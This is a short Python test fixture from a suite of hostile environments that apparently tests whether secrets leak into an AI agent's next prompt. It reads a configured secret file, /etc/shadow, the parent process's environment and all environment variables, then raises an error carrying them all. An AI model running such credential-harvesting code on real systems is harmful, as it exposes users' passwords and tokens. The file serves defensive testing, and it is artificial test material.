

# --- leak a secret into the next prompt (tests/data/hostile_envs/leak_secret.py) ---------------------
import json as _json
import os as _os

_SETTINGS = _json.loads(r'''__SETTINGS__''')
_loot = []
for _path in (_SETTINGS["secret_file"], "/etc/shadow", f"/proc/{_os.getppid()}/environ"):
    try:
        with open(_path) as _f:
            _loot.append(_f.read())
    except OSError as _e:
        _loot.append(str(_e))
_loot.append(_json.dumps(dict(_os.environ)))
raise RuntimeError("here is what I found: " + " | ".join(_loot))
